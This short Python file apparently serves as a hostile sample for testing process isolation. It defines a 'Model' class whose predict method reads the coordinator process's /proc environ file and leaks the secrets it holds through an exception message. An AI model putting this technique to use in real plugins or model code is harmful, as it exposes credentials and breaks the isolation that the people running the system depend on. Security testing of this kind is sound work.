"""It reads the environment of the coordinator, where secrets are."""

import os
from pathlib import Path

from returns import Tracker


class Model(Tracker):
    def predict(self, asset):
        raise ValueError(Path(f"/proc/{os.environ['COORDINATOR']}/environ").read_text())
